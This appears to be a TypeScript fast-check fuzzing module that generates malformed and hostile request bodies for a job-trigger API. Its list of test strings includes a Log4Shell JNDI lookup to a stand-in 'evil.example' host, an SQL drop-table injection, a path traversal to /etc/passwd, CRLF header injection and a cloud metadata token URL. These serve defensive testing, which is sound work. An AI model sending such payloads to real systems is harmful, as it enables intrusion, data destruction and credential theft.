import fc from "fast-check";

/** Texts that mean something to somebody on the way: a path, a header, a log, a prototype, a terminal. */
const TELLING_TEXTS = [
  "",
  "__proto__",
  "constructor",
  "../../etc/passwd",
  "..%2f..%2f",
  "%00",
  "\u0000",
  "a\r\nX-Injected: 1",
  "\u001b[31mred\u001b[0m",
  "\u202etxt.exe",
  "\ud800",
  "😀".repeat(50),
  "https://169.254.169.254/metadata/identity/oauth2/token",
  "x".repeat(5_000),
  "${jndi:ldap://evil.example/a}",
  "'; drop table runs; --",
  "1e400",
  "9223372036854775808",
  "NaN",
];

export const oddText: fc.Arbitrary<string> = fc.oneof(
  fc.constantFrom(...TELLING_TEXTS),
  fc.string({ unit: "binary", maxLength: 60 }),
);

/** Numbers that JSON allows and few expect. */
const oddNumber = fc.constantFrom(
  -1,
  0,
  0.5,
  -0,
  1e21,
  1e308,
  Number.MAX_SAFE_INTEGER + 1,
  -Number.MAX_SAFE_INTEGER,
);

export const oddValue: fc.Arbitrary<unknown> = fc.oneof(
  oddText,
  oddNumber,
  fc.constantFrom(null, true, false, [], {}, [[]], [{}]),
  fc.jsonValue({ maxDepth: 4 }),
);

const NAMES = [
  "target",
  "waitSeconds",
  "timeoutSeconds",
  "queueTimeoutSeconds",
  "retry",
  "partialSuccess",
  "idempotencyKey",
  "callBackUri",
  "callbackUrl",
  "tags",
] as const;
const TARGET_NAMES = [
  "type",
  "workspaceId",
  "accountId",
  "jobId",
  "jobName",
  "jobParameters",
  "notebookParams",
  "cause",
  "gitBranch",
  "stepsOverride",
  "only",
  "pipelineParams",
] as const;

const some = (names: readonly string[]): fc.Arbitrary<Record<string, unknown>> =>
  fc.dictionary(fc.oneof(fc.constantFrom(...names), oddText), oddValue, { maxKeys: 6 });

/** A body with the names of the contract, some others, and anything at all as values. */
export const oddBody: fc.Arbitrary<string> = fc.oneof(
  fc.tuple(some(NAMES), some(TARGET_NAMES)).map(([body, target]) => {
    return JSON.stringify({ ...body, target: { type: "databricks-job", ...target } });
  }),
  oddValue.map((value) => JSON.stringify(value)),
  oddText,
  fc.nat({ max: 30_000 }).map((depth) => '{"target":'.repeat(depth) + "1" + "}".repeat(depth)),
  fc.nat({ max: 30_000 }).map((depth) => "[".repeat(depth)),
);
